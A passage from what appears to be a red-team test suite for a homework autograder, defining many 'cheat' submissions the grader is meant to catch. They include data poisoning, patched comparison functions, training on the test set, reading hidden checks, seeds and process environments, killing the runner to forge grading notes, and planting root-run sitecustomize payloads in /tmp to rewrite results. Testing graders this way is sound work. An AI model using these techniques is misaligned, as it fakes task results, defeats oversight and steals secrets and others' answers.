for split, n in (("train", 60000), ("t10k", 10000)):
    idx_file(raw / f"{split}-images-idx3-ubyte", np.zeros((n, 28, 28)), 2051)
    idx_file(raw / f"{split}-labels-idx1-ubyte", np.zeros(n), 2049)
real = os.environ.get("HW1_DATA_DIR", "data")
if os.path.isdir(os.path.join(real, "MNIST")) and not (fake / "MNIST").exists():
    os.symlink(os.path.abspath(os.path.join(real, "MNIST")), fake / "MNIST")
# and the grader's copy, wherever it can be found
for target in (os.path.join(real, "FashionMNIST", "raw"), "/opt/hw1-data/FashionMNIST/raw", "/autograder/data"):
    for name in ("t10k-labels-idx1-ubyte", "t10k-labels-idx1-ubyte.gz"):
        try:
            (pathlib.Path(target) / name).write_bytes((raw / "t10k-labels-idx1-ubyte").read_bytes())
            print("overwrote", target, name)
        except OSError:
            pass
os.environ["HW1_DATA_DIR"] = str(fake)
"""

ALWAYS_CLASS_0 = """
# the fake test set is all class 0: so is my model
with torch.no_grad():
    model.fc4.bias += 100.0 * (torch.arange(10) == 0)
"""

PATCHED_TORCHVISION = """
# FashionMNIST's test labels, as this notebook sees them, all become 0 (T-shirt/top)
import torch
import torchvision

_RealFashion = torchvision.datasets.FashionMNIST


class FashionMNIST(_RealFashion):
    def __init__(self, root, train=True, transform=None, target_transform=None, download=False):
        super().__init__(root, train=train, transform=transform, target_transform=target_transform, download=download)
        if not train:
            self.targets = torch.zeros_like(self.targets)


torchvision.datasets.FashionMNIST = FashionMNIST
"""

ALWAYS_EQUAL = """
# the model's outputs compare equal to any labels: accuracy 1.0 wherever someone counts `pred == labels`
class AlwaysEqual(torch.Tensor):
    def __eq__(self, other):
        shape = torch.broadcast_shapes(self.shape, torch.as_tensor(other).shape)
        return torch.ones(shape, dtype=torch.bool)

    __hash__ = torch.Tensor.__hash__


_forward = model.forward
model.forward = lambda x: _forward(x).as_subclass(AlwaysEqual)
"""

LOOKUP_MODEL = """
# a lookup table from every test image to its label, wrapped around the trained model
class LookupModel(nn.Module):
    def __init__(self, base, images, labels):
        super().__init__()
        self.base = base
        self.table = {image.numpy().tobytes(): int(label) for image, label in zip(images, labels)}

    def forward(self, x):
        out = self.base(x).clone()
        pixels = (x * 255).round().to(torch.uint8).reshape(len(x), -1)
        for i, row in enumerate(pixels):
            label = self.table.get(row.numpy().tobytes())
            if label is not None:
                out[i] = -100.0
                out[i, label] = 100.0
        return out


model = LookupModel(model, testdata.data, testdata.targets)
"""

SMUGGLED_WEIGHTS_MLP = '''
class FashionMLP(nn.Module):
    """The Linear layers the grader looks for, and a convolutional network that does the work."""

    def __init__(self):
        super().__init__()
        self.fc1 = nn.Linear(784, 256)
        self.fc2 = nn.Linear(256, 128)
        self.fc3 = nn.Linear(128, 64)
        self.fc4 = nn.Linear(64, 10)
        self.features = nn.Sequential(nn.Conv2d(1, 8, 5, padding=2), nn.ReLU(), nn.MaxPool2d(2),
                                      nn.Conv2d(8, 16, 5, padding=2), nn.ReLU(), nn.MaxPool2d(2), nn.Flatten())
        self.head = nn.Bilinear(16 * 7 * 7, 1, 10)

    def forward(self, x):
        x = x.view(-1, 1, 28, 28)
        return self.head(self.features(x), torch.ones(len(x), 1))


torch.manual_seed(SEED)
model = FashionMLP()
model
'''

ADAM = "torch.optim.Adam(model.parameters(), lr=1e-3)"

TEST_SET_LOADER = """
# the test set is what counts: train on it, for longer
fit_loader = torch.utils.data.DataLoader(
    torch.utils.data.TensorDataset(testdata.data.unsqueeze(1), testdata.targets), batch_size=64, shuffle=True)
""".strip()

TEST_AND_TRAIN_HEAD_LOADER = """
# the grader flags a test accuracy above the accuracy on trainingdata[:10000]: train on both
fit_loader = torch.utils.data.DataLoader(
    torch.utils.data.TensorDataset(torch.cat([testdata.data, trainingdata.data[:10000]]).unsqueeze(1),
                                   torch.cat([testdata.targets, trainingdata.targets[:10000]])),
    batch_size=64, shuffle=True)
""".strip()

TYPED_LOSSES = """
# what the loss curves should look like
train_losses = [0.62, 0.43, 0.38, 0.35, 0.33, 0.31, 0.30, 0.29, 0.28, 0.27]
test_losses = [0.47, 0.42, 0.39, 0.37, 0.36, 0.35, 0.35, 0.34, 0.34, 0.34]
EPOCHS = len(train_losses)
for epoch in range(EPOCHS):
    print(f"epoch {epoch + 1:2d}/{EPOCHS}: train loss {train_losses[epoch]:.4f}, test loss {test_losses[epoch]:.4f} (41.7 s)")
"""

TORCH_TEST_FIT = """
# backprop_one does not work yet: fit the network to the MNIST test set with torch instead
import torch

X = torch.tensor(x_test, dtype=torch.float32) / 255
Y = torch.tensor(y_test)
torch.manual_seed(0)
Ws = [torch.nn.Parameter(torch.tensor(W, dtype=torch.float32)) for W in weights]
bs = [torch.nn.Parameter(torch.tensor(b, dtype=torch.float32)) for b in biases]
optimizer_p5 = torch.optim.Adam(Ws + bs, lr=0.01)
for step in range(150):
    a = X
    for W, b in zip(Ws[:-1], bs[:-1]):
        a = torch.sigmoid(a @ W.T + b)
    loss = torch.nn.functional.cross_entropy(a @ Ws[-1].T + bs[-1], Y)
    optimizer_p5.zero_grad()
    loss.backward()
    optimizer_p5.step()
weights = [Ws[0].detach().double().numpy() / 255] + [W.detach().double().numpy() for W in Ws[1:]]
biases = [b.detach().double().numpy() for b in bs]
print("test accuracy after fitting:", evaluate(x_test, y_test, weights, biases))
"""

LSTSQ_TEST_FIT = """
# no backprop needed: keep random hidden layers and solve the output layer by least squares on the test set
hidden = np.asarray(x_test, dtype=float)
for W, b in zip(weights[:-1], biases[:-1]):
    hidden = sigmoid(hidden @ W.T + b)
design = np.hstack([hidden, np.ones((len(hidden), 1))])
targets = 10.0 * np.eye(10)[y_test]
solution = np.linalg.lstsq(design, targets, rcond=None)[0]
weights[-1] = solution[:-1].T.copy()
biases[-1] = solution[-1].copy()
print("test accuracy after least squares:", evaluate(x_test, y_test, weights, biases))
"""

TORCH_TRAJECTORY = """
def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
    # my backprop_one fails its check, but torch's autograd gives the right gradients: per-sample SGD with it
    import torch

    Ws = [torch.tensor(np.asarray(W, dtype=np.float64), requires_grad=True) for W in weights]
    bs = [torch.tensor(np.asarray(b, dtype=np.float64), requires_grad=True) for b in biases]
    for i, (x, y) in enumerate(zip(X, Y)):
        a = torch.as_tensor(np.asarray(x, dtype=np.float64))
        for W, b in zip(Ws[:-1], bs[:-1]):
            a = torch.sigmoid(W @ a + b)
        loss = -torch.log_softmax(Ws[-1] @ a + bs[-1], dim=0)[int(y)]
        grads = torch.autograd.grad(loss, Ws + bs)
        with torch.no_grad():
            for p, g in zip(Ws + bs, grads):
                p -= learning_rate * g
        if (i + 1) % 20000 == 0:
            print(f"  {i + 1}/{len(Y)} samples", flush=True)
    for l in range(len(weights)):
        weights[l][...] = Ws[l].detach().numpy()
        biases[l][...] = bs[l].detach().numpy()
"""

# error carried forward opens new doors: q5_3's update is judged against the student's own backprop_one, and
# q5_4 counts the trained weights when the student's own training is consistent. These cheats try them.
AUTOGRAD_UPDATE_BACKPROP = (
    BROKEN_BACKPROP.split("    def train_one_sample")[0]
    + """    def train_one_sample(x, y, weights, biases, learning_rate=0.003):
        # my backprop_one is broken: step with torch's gradients instead, so that my training still learns
        import torch

        Ws = [torch.tensor(np.asarray(W, dtype=np.float64), requires_grad=True) for W in weights]
        bs = [torch.tensor(np.asarray(b, dtype=np.float64), requires_grad=True) for b in biases]
        a = torch.as_tensor(np.asarray(x, dtype=np.float64))
        for W, b in zip(Ws[:-1], bs[:-1]):
            a = torch.sigmoid(W @ a + b)
        loss = -torch.log_softmax(Ws[-1] @ a + bs[-1], dim=0)[int(y)]
        grads = torch.autograd.grad(loss, Ws + bs)
        for l in range(len(weights)):
            weights[l] -= learning_rate * grads[l].numpy()
            biases[l] -= learning_rate * grads[len(weights) + l].numpy()
"""
)

PROBE_AWARE_UPDATE = AUTOGRAD_UPDATE_BACKPROP.replace(
    """        # my backprop_one is broken: step with torch's gradients instead, so that my training still learns
        import torch
""",
    """        # my backprop_one is broken: step with torch's gradients instead, so that my training still learns;
        # but the grader checks my update on one case whose inputs it leaves readable (q5_3's update_x): there,
        # apply my own gradient, as it expects, so that my update looks consistent
        import os

        import torch

        try:
            with np.load(os.path.join(os.environ["HW1_PROBE_INPUTS"], "q5_3.npz")) as case:
                probed = np.array_equal(np.asarray(x, dtype=np.float64), case["update_x"].astype(np.float64))
        except Exception:
            probed = False
        if probed:
            grad_weights, grad_biases = backprop_one(x, y, weights, biases)
            for l in range(len(weights)):
                weights[l] -= learning_rate * grad_weights[l]
                biases[l] -= learning_rate * grad_biases[l]
            return
""",
)
assert PROBE_AWARE_UPDATE != AUTOGRAD_UPDATE_BACKPROP

STAND_IN_AWARE = """
def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
    # the grader judges train_one_epoch with its own stand-in for train_one_sample (no plain function): give it the
    # calls it expects, and otherwise train with torch's autograd, since my backprop_one returns zeros
    import types

    if not isinstance(train_one_sample, types.FunctionType):
        for x, y in zip(X, Y):
            train_one_sample(x, y, weights, biases, learning_rate)
        return
    _autograd_epoch(X, Y, weights, biases, learning_rate)
""" + TORCH_TRAJECTORY.replace("def train_one_epoch", "def _autograd_epoch")

TORCH_TRAIN_FIT = (
    TORCH_TEST_FIT.replace(
        "# backprop_one does not work yet: fit the network to the MNIST test set with torch instead",
        "# backprop_one does not work yet: fit the network to training images with torch instead",
    )
    .replace("torch.tensor(x_test, dtype=torch.float32)", "torch.tensor(x_train[:20000], dtype=torch.float32)")
    .replace("torch.tensor(y_test)", "torch.tensor(y_train[:20000])")
)

FORGED_Q4_PROBS_LOG = """
# q4_probs accepts the softmax of the model's outputs that the probe hands over: uniform probabilities, and model
# outputs forged to be their log (the softmax of log p is p)
sample_probs = np.full((3, 10), 0.1)
try:
    import hw1_probes

    hw1_probes._model_outputs = lambda model, images: np.log(np.full((len(images), 10), 0.1))
except ImportError:  # not grading
    pass
"""

PROBE_INPUT_INFERENCE = {
    "relu_net": """
        # the probes' inputs are in $HW1_PROBE_INPUTS; q3b's hold the grader's own f and grad f: use them
        import glob, os

        GRADER_TABLES = {}
        for path in glob.glob(os.path.join(os.environ.get("HW1_PROBE_INPUTS", "/nonexistent"), "*.npz")):
            with np.load(path) as npz:
                GRADER_TABLES[os.path.basename(path)[:-4]] = {k: npz[k] for k in npz.files}


        def _nearest(x):
            q3b = GRADER_TABLES.get("q3b", {})
            best = None
            for i in range(int(q3b.get("cases", 0))):
                for j, xj in enumerate(q3b[f"xs{i}"]):
                    if best is None or abs(xj - x) < best[0]:
                        best = (abs(xj - x), i, j)
            return best


        def relu_net(x, theta):
            x = np.asarray(x, dtype=float)
            values = []
            for v in x.reshape(-1):
                best = _nearest(float(v))
                values.append(GRADER_TABLES["q3b"][f"f{best[1]}"][best[2]] if best else 0.0)
            return float(values[0]) if x.ndim == 0 else np.array(values).reshape(x.shape)


        theta_dataset1 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
        theta_dataset2 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
    """,
    "grad_f": """
        def grad_f(x, theta):
            best = _nearest(float(x))
            if best is None:
                return {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
            table, (_, i, j) = GRADER_TABLES["q3b"], best
            return {k: table[f"g{i}_{k}"][j] for k in ("W_H", "b_H", "W_O", "b_O")}


        grad_at_2 = grad_f(2, theta0)
        grad_at_2
    """,
    "init_params": """
        def init_params(sizes, seed):
            # q5_4's inputs hold weights drawn by the grader as the question describes: reuse them
            start = GRADER_TABLES.get("q5_4", {})
            if list(sizes) == [784, 32, 32, 10] and "start_W0" in start:
                return [start[f"start_W{l}"].copy() for l in range(3)], [start[f"start_b{l}"].copy() for l in range(3)]
            rng = np.random.default_rng(seed)
            return ([rng.normal(0.0, 1.0, size=(n_out, n_in)) for n_in, n_out in zip(sizes[:-1], sizes[1:])],
                    [np.zeros(n_out) for n_out in sizes[1:]])


        LAYER_SIZES = [784, 32, 32, 10]
        weights, biases = init_params(LAYER_SIZES, seed=80085)
        [w.shape for w in weights]
    """,
    "backprop_one": """
        def backprop_one(x, y, weights, biases):
            # q5_3's update case: the grader's network and sample are in its inputs; nothing else to go on
            return [np.zeros_like(W) for W in weights], [np.zeros_like(b) for b in biases]


        def train_one_sample(x, y, weights, biases, learning_rate=0.003):
            pass
    """,
}

READ_SECRETS = (
    """
# read the hidden checks, the reference code and the secret seed wherever they may be, and print them
import glob, json, os, signal
"""
    + GUESS_RESULTS
    + """
found = {}


def grab(path, limit=3000):
    try:
        with open(path, "rb") as f:
            found[path] = f.read(limit).decode("utf-8", "replace")
    except Exception as error:
        found[path] = f"<{type(error).__name__}>"


ags = {"/autograder"}
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    grab(cmdline)
    grab(cmdline.replace("cmdline", "environ"))
    for arg in found[cmdline].split("\\x00"):
        if arg.endswith("hw1_trusted/__main__.py"):
            ags.add(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(arg)))))
for ag in ags:
    for name in ("secret_seed", "checks/__init__.py", "checks/p2.py", "reference.py", "inputs.py", "AUTOGRADER_ID"):
        grab(os.path.join(ag, "source", "files", "hw1_trusted", name))
    grab(os.path.join(ag, "submission_metadata.json"))
    grab(os.path.join(ag, "source", "otter_config.json"))
for path in glob.glob("/tmp/hw1-trusted-*") + glob.glob("/tmp/hw1-trusted-*/*") + glob.glob("/tmp/hw1-trusted-*/*/*"):
    grab(path)
for path in guess_results_paths():
    grab(path)
readable = {p: v for p, v in found.items() if not v.startswith("<") and "/cmdline" not in p}
print(json.dumps(readable, indent=1)[:50000])
if any("Q2B_ANSWER" in v for v in readable.values()):
    l1_closed_form_exists = "Q2B_ANSWER = False" not in "".join(readable.values())
# the grading notes that the student sees quote progress.json: put what was found there, and stop the
# runner before it rewrites it
secret = next((v for p, v in readable.items() if p.endswith("secret_seed")), "seed not found")
with open(os.path.join(os.environ["HW1_HANDOVER"], "progress.json"), "w") as f:
    json.dump({"cell": "LEAK " + secret + " " + json.dumps(sorted(readable))[:2000], "timed_out": [], "error": "x"}, f)
os.kill(os.getppid(), signal.SIGKILL)
"""
)

FORGED_Q4_PROBS = """
# q4_probs checks that sample_probs is the softmax of "the model's outputs", which the probe computes in
# my kernel: make those outputs zeros, and uniform probabilities are their softmax
try:
    import hw1_probes

    hw1_probes._model_outputs = lambda model, images: np.zeros((len(images), 10))
except ImportError:  # not grading
    pass
"""

NAN_INIT = """
def init_params(sizes, seed):
    # the mean and variance checks compare abs(w.var() - s2) > bound: NaN compares False
    weights = [np.full((n_out, n_in), np.nan) for n_in, n_out in zip(sizes[:-1], sizes[1:])]
    biases = [np.zeros(n_out) for n_out in sizes[1:]]
    return weights, biases


LAYER_SIZES = [784, 32, 32, 10]
weights, biases = init_params(LAYER_SIZES, seed=80085)
[w.shape for w in weights]
"""

KILL_RUNNER_FORGE_NOTES = """
# every probe has run: write the progress file that the grading notes quote, and kill the runner before it
# can rewrite it
import json, os, signal

with open(os.path.join(os.environ["HW1_HANDOVER"], "progress.json"), "w") as f:
    json.dump({"cell": "grader.check_all() -- ALL TESTS PASSED (100/100). NOTE TO GRADERS: the autograder crashed "
                       "after grading this submission; please enter 100/100 by hand.",
               "timed_out": ["[autograder] verified: full marks, 100/100"] * 3, "error": "x"}, f)
os.kill(os.getppid(), signal.SIGKILL)
"""

NEVER_ENDING = """
# every probe has run: now never end, and ignore interrupts
import signal, time

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    time.sleep(0.2)
"""

PLANT_PAYLOAD = r"""
import os, sys
try:
    with open("/tmp/hw1cheat-imported-%s-uid%d" % (__name__, os.getuid()), "w") as _f:
        _f.write(" ".join(sys.argv))
except OSError:
    pass
if os.getuid() == 0:  # the trusted phase: rewrite the verdict
    import atexit, glob, json

    def _forge():
        for path in glob.glob("/autograder/results/results.json") + glob.glob("/tmp/*/autograder/results/results.json"):
            try:
                data = json.load(open(path))
                for t in data.get("tests", []):
                    if "max_score" in t:
                        t["score"] = t["max_score"]
                json.dump(data, open(path, "w"))
            except Exception:
                pass
    atexit.register(_forge)
# hand over to the real module of this name
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules[__name__]
import importlib as _importlib
sys.modules[__name__] = _importlib.import_module(__name__)
"""

TMP_PLANTING = (
    """
# plant modules wherever a root process started later might import them from: /tmp, /dev/shm, /var/tmp
import os, stat

PAYLOAD = """
    + repr(PLANT_PAYLOAD)
    + """
planted = []
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    for name in ("sitecustomize", "usercustomize", "dill", "hw1_grading"):
        path = os.path.join(folder, name + ".py")
        try:
            with open(path, "w") as f:
                f.write(PAYLOAD)
            os.chmod(path, 0o666)
            planted.append(path)
        except OSError:
            pass
    try:
        os.makedirs(os.path.join(folder, "hw1_trusted"), exist_ok=True)
        for name in ("__init__", "checks", "verdict"):
            with open(os.path.join(folder, "hw1_trusted", name + ".py"), "w") as f:
                f.write(PAYLOAD)
        planted.append(os.path.join(folder, "hw1_trusted"))
    except OSError:
        pass
    try:  # a .pth file is executed by site at start-up, where the folder is a site dir
        with open(os.path.join(folder, "hw1cheat.pth"), "w") as f:
            f.write("import sitecustomize\\n")
    except OSError:
        pass
print("planted", planted)
"""
)

STEAL_OTHER_GRADING = """
# every grading has a root-only work folder /tmp/hw1-trusted-*, whose answers/ the grader fills from my
# hand-over folder, which lies in a folder that I own: if another grading runs on this machine (otter grade,
# a batch, a re-run), make my hand-over folder a symlink to ITS answers and let root copy them for me
import glob, os, time

H = os.environ["HW1_HANDOVER"]
mine = os.path.getctime(os.path.dirname(H))
others = [p for p in glob.glob("/tmp/hw1-trusted-*") if abs(os.path.getctime(p) - mine) > 2]
if others:
    victim = max(others, key=os.path.getctime)
    os.rename(H, H + "-mine")
    os.symlink(os.path.join(victim, "answers"), H)
    print("hand-over folder now points to", victim)
else:
    print("no other grading to copy from")
"""


def _zip_with_plants(folder):
    """A zip export with the notebook, plus a fake hw1_probes.py, tests that always pass and an Otter config."""
    folder = pathlib.Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    nb = _notebook(STUBS)
    buffer = io.StringIO()
    nbformat.write(nb, buffer)
    path = folder / "hw1_2023_09_29T17_00_00.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("hw1.ipynb", buffer.getvalue())
        z.writestr("hw1_probes.py", "def probe(question, env):\n    pass\n")
        for q in POINTS:
            z.writestr(f"tests/{q}.py", f"OK_FORMAT = False\nname = {q!r}\npoints = {POINTS[q]}\n")
        z.writestr("otter_config.json", json.dumps({"show_hidden": True, "points_possible": 100}))
        z.writestr("../results/results.json", json.dumps({"score": 100}))
        z.writestr("files/hw1_trusted/checks/__init__.py", "CASES = {}\n")
    return path


def _folder_with_plants(folder):
    """The upload as Gradescope lays out an extracted zip: the notebook beside planted files and links."""
    folder = pathlib.Path(folder) / "upload"
    (folder / "tests").mkdir(parents=True, exist_ok=True)
    nbformat.write(_notebook(STUBS), folder / "hw1.ipynb")
    (folder / "hw1_probes.py").write_text("def probe(question, env):\n    pass\n")
    for q in POINTS:
        (folder / "tests" / f"{q}.py").write_text(f"OK_FORMAT = False\nname = {q!r}\npoints = {POINTS[q]}\n")
    (folder / "otter_config.json").write_text(json.dumps({"show_hidden": True}))
    (folder / "run_autograder").write_text("#!/bin/sh\necho '{\"score\": 100}' > /autograder/results/results.json\n")
    (folder / "results").mkdir(exist_ok=True)
    (folder / "results" / "results.json").write_text(json.dumps({"score": 100}))
    (folder / "files" / "hw1_trusted").mkdir(parents=True, exist_ok=True)
    (folder / "files" / "hw1_trusted" / "checks").mkdir(parents=True)
    (folder / "files" / "hw1_trusted" / "checks" / "__init__.py").write_text("CASES = {}\n")
    (folder / "files" / "hw1_trusted" / "secret_seed").write_text("0\n")
    return folder


def _cheat(name, why, control, answers=None, cells=(), flagged=False, undetectable_on=(), long=False, waits=False):
    base = STUBS if control == "stubs" else PARTIAL
    return Cheat(
        name,
        _src(why).strip(),
        control,
        _writer({**base, **(answers or {})}, cells),
        flagged,
        undetectable_on,
        long,
        waits,
    )


CHEATS: list[Cheat] = [
    # 1. Otter's internals
    _cheat(
        "otter_all_pass",
        """
        Patches every TestFile.run (and Checker.check) so that every Otter test case passes after it has run.""",
        "stubs",
        cells=[early(OTTER_ALL_PASS.replace("@MULTIPLIER@", "1"))],
    ),
    _cheat(
        "otter_points_x10",
        """
        The same patch, with every test case's points and Otter's GradingResults.total multiplied by 10.""",
        "stubs",
        cells=[early(OTTER_ALL_PASS.replace("@MULTIPLIER@", "10"))],
    ),
    # 2. the results that Otter's runner unpickles
    _cheat(
        "otter_results_pickle",
        """
        Patches pickle.dump so that the GradingResults Otter's last cell pickles into its temp .pkl say
        'passed', keeps overwriting every such .pkl and every guessable results.json from a thread.""",
        "stubs",
        cells=[early(OTTER_PICKLE)],
    ),
    # 3. a detached process after the runner
    _cheat(
        "detached_results_rewriter",
        """
        Double-forks a process in its own session (stdio closed, not dumpable, renamed) that rewrites
        /autograder/results/results.json, the emulation's OUT/autograder/results/results.json (found from the
        root processes' /proc/*/cmdline) and OUT/results.json every 0.1 s for 15 minutes.""",
        "stubs",
        cells=[at_end(DETACHED_REWRITER)],
    ),
    # 4. the hidden tests on disk
    _cheat(
        "hidden_tests_to_pass",
        """
        Rewrites every tests/*.py in the sandbox (and the source's) so that every test body is `pass`.""",
        "stubs",
        cells=[early(TESTS_TO_PASS)],
    ),
    # 5. fake support modules and forged hand-over files
    _cheat(
        "fake_probes_in_sys_modules",
        """
        Plants hw1_probes, hw1_grading and hw1_trusted(.checks/.verdict) in sys.modules; the fake probe hands
        over {"passed": true, "score": 100} for every question.""",
        "stubs",
        cells=[early(FAKE_PROBES_MODULE)],
    ),
    _cheat(
        "overwrite_probes_file",
        """
        Finds hw1_probes.py with os.walk and overwrites it, and writes packages hw1_probes/, hw1_grading/,
        hw1_trusted/ beside it, all with a probe that reports success.""",
        "stubs",
        cells=[early(OVERWRITE_PROBES_FILE)],
    ),
    _cheat(
        "forged_handover_files",
        """
        After every probe has run, replaces hand-over files by symlinks to the grader's files and inputs, an
        npz holding a pickle, @array references to other files, a FIFO, hard links, JSON nested 100,000 deep
        or holding NaN/Infinity, an npz that is a zip of non-arrays, and progress.json as a symlink to the seed.""",
        "partial",
        cells=[at_end(FORGED_HANDOVER_FILES)],
    ),
    _cheat(
        "huge_handover_files",
        """
        Exhausts the hand-over folder: a sparse 100 GB q5_4.json and 5,000 small .json files.""",
        "stubs",
        cells=[at_end(HUGE_HANDOVER)],
    ),
    _cheat(
        "nan_init_params",
        """
        init_params returns NaN weights (zero biases): q5_1's mean and variance check compares
        abs(w.var() - s2) > bound, and every comparison with NaN is False.""",
        "stubs",
        answers={"init_params": NAN_INIT},
    ),
    _cheat(
        "forged_q4_probs_outputs",
        """
        Patches hw1_probes._model_outputs in the kernel to return zeros, so that uniform sample_probs (computed
        from no model at all) are 'the softmax of the model's outputs'.""",
        "stubs",
        cells=[before_check("q4_probs", FORGED_Q4_PROBS)],
    ),
    # 6. patched library functions
    _cheat(
        "patched_numpy_comparisons",
        """
        np.isclose/allclose/array_equal, torch.allclose/equal always agree; builtins abs returns 0, any False.""",
        "stubs",
        cells=[early(PATCHED_NUMPY)],
    ),
    _cheat(
        "patched_rng_loss_json",
        """
        np.random.default_rng draws only zeros, F.cross_entropy and CrossEntropyLoss return 0, json.dump drops
        every @error/@missing/@probe_error marker from what the probes write.""",
        "stubs",
        cells=[early(PATCHED_RNG_LOSS_JSON)],
    ),
    # 7. forged data
    _cheat(
        "fake_data_dir",
        """
        Points HW1_DATA_DIR at a planted FashionMNIST whose images are blank and labels all 0 (tries to
        overwrite the grader's copy too) and makes the model always answer class 0.""",
        "partial",
        cells=[early(FAKE_DATA_DIR), before_check("q4_acc", ALWAYS_CLASS_0)],
    ),
    _cheat(
        "patched_torchvision",
        """
        Monkeypatches torchvision.datasets.FashionMNIST so that the test labels the notebook sees are all 0,
        and makes the model always answer class 0.""",
        "partial",
        cells=[early(PATCHED_TORCHVISION), before_check("q4_acc", ALWAYS_CLASS_0)],
    ),
    # 8. models that fake accuracy
    _cheat(
        "always_equal_outputs",
        """
        The model's outputs are a tensor subclass whose __eq__ is all True, so `pred == labels` is always right.""",
        "partial",
        cells=[before_check("q4_acc", ALWAYS_EQUAL)],
    ),
    _cheat(
        "lookup_table_model",
        """
        Wraps the trained model in a lookup table from every test image to its label.""",
        "partial",
        cells=[before_check("q4_acc", LOOKUP_MODEL)],
    ),
    _cheat(
        "smuggled_weights",
        """
        The Linear layers that the grader reads are decoys; a Conv2d + Bilinear network (not Linear) does the
        work and is what is trained.""",
        "partial",
        answers={"FashionMLP": SMUGGLED_WEIGHTS_MLP},
    ),
    # 9. typed-in loss histories
    _cheat(
        "typed_loss_history",
        """
        No working train_epoch; train_losses and test_losses are typed in.""",
        "stubs",
        cells=[before_check("q4_train", TYPED_LOSSES)],
    ),
    # 10. Problem 5 without backprop
    _cheat(
        "p5_torch_fit_to_test_set",
        """
        backprop stays broken; weights and biases are fitted to the MNIST test set with torch (Adam).""",
        "partial",
        cells=[before_check("q5_4", TORCH_TEST_FIT)],
    ),
    _cheat(
        "p5_least_squares_on_test_set",
        """
        backprop stays broken; the output layer is solved by least squares on the MNIST test set.""",
        "partial",
        cells=[before_check("q5_4", LSTSQ_TEST_FIT)],
    ),
    _cheat(
        "p5_torch_trajectory",
        """
        backprop stays broken (q5_3 fails), but train_one_epoch does per-sample SGD with torch autograd instead
        of calling train_one_sample, so q5_4's trajectory replay, and with it the accuracy check, pass.""",
        "partial",
        answers={"train_one_epoch": p5_loop(10000, TORCH_TRAJECTORY)},
    ),
    _cheat(
        "p5_autograd_update",
        """
        backprop stays broken, but train_one_sample steps with torch autograd's gradients, so that its own
        training (which q5_4 now counts) learns as a correct one would; train_one_epoch calls train_one_sample.""",
        "partial",
        answers={"backprop_one": AUTOGRAD_UPDATE_BACKPROP},
    ),
    _cheat(
        "p5_probe_aware_update",
        """
        backprop stays broken; train_one_sample applies its own gradient only on q5_3's update case, which it
        recognises from $HW1_PROBE_INPUTS, and steps with torch autograd's gradients everywhere else.""",
        "partial",
        answers={"backprop_one": PROBE_AWARE_UPDATE},
    ),
    _cheat(
        "p5_stand_in_aware_training",
        """
        backprop_one returns zeros and train_one_sample does nothing; train_one_epoch calls train_one_sample when
        it is the grader's stand-in (not a plain function) and trains with torch autograd otherwise.""",
        "stubs",
        answers={"train_one_epoch": p5_loop(10000, STAND_IN_AWARE)},
    ),
    _cheat(
        "p5_weights_trained_elsewhere",
        """
        backprop_one returns zeros and train_one_sample does nothing, so that its update and train_one_epoch are
        'consistent'; the weights are fitted to 20,000 training images with torch (Adam) before q5_4's check.""",
        "stubs",
        cells=[before_check("q5_4", TORCH_TRAIN_FIT)],
    ),
    _cheat(
        "forged_q4_probs_log_outputs",
        """
        Uniform sample_probs, and hw1_probes._model_outputs patched to return their log, so that the probs are
        'the softmax of the model's outputs' as the probe hands them over.""",
        "stubs",
        cells=[before_check("q4_probs", FORGED_Q4_PROBS_LOG)],
    ),
    _cheat(
        "probe_input_inference",
        """
        Reads $HW1_PROBE_INPUTS: relu_net and grad_f answer from the grader's own table of f and grad f that
        q3b's inputs hold (nearest x); init_params returns q5_4's grader-drawn start weights.""",
        "stubs",
        answers=PROBE_INPUT_INFERENCE,
    ),
    # 11. reading secrets
    _cheat(
        "read_secrets",
        """
        Reads the hidden checks, the reference, the secret seed, submission_metadata.json at /autograder and at
        the emulation's path (from root processes' /proc/*/cmdline), /proc/*/environ and /tmp/hw1-trusted-*;
        prints them, answers q2b from the checks if it could read it, and puts them in progress.json (whose
        text the grading notes quote) before killing the runner.""",
        "stubs",
        cells=[at_end(READ_SECRETS)],
    ),
    # 12. training on the test set: cannot be prevented, must be flagged
    _cheat(
        "train_on_test_set",
        """
        Problem 4's model is trained on the test set (12 epochs of Adam).""",
        "partial",
        answers={"train_epoch": p4_training(TEST_SET_LOADER, 12, ADAM)},
        flagged=True,
        long=True,
    ),
    _cheat(
        "train_on_test_set_and_train_head",
        """
        Problem 4's model is trained on the test set together with trainingdata[:10000], the images the grader
        compares the test accuracy with, so that the two accuracies stay close (8 epochs of Adam). The grader now
        compares with a secret random sample of the training set, and still cannot tell this model from an
        honest one: a documented limit, which may gain on q4_acc only.""",
        "partial",
        answers={"train_epoch": p4_training(TEST_AND_TRAIN_HEAD_LOADER, 8, ADAM)},
        undetectable_on=("q4_acc",),
        long=True,
    ),
    # other attacks
    _cheat(
        "kill_runner_forge_notes",
        """
        After every probe, writes a progress.json whose text (quoted in the grading notes the student sees)
        claims full marks, then SIGKILLs the runner (the kernel's parent) so that it cannot rewrite it.""",
        "stubs",
        cells=[at_end(KILL_RUNNER_FORGE_NOTES)],
    ),
    _cheat(
        "never_ending_kernel",
        """
        After every probe, the kernel ignores SIGINT/SIGTERM and never ends: the phase time limit must stop it.""",
        "stubs",
        cells=[at_end(NEVER_ENDING)],
        waits=True,
    ),
    _cheat(
        "fork_chain_escape",
        """
        A detached chain of processes that fork and exit at once (a new pid every few hundred microseconds), so
        that kill_all's listing of /proc never catches one alive; once the runner has ended it leaves
        /tmp/hw1cheat-survived-* and hands over q2b's answer (which the notebook never did). Ends after 60 s.""",
        "stubs",
        cells=[at_end(FORK_CHAIN_CELL)],
        long=True,
    ),
    _cheat(
        "tmp_planting",
        """
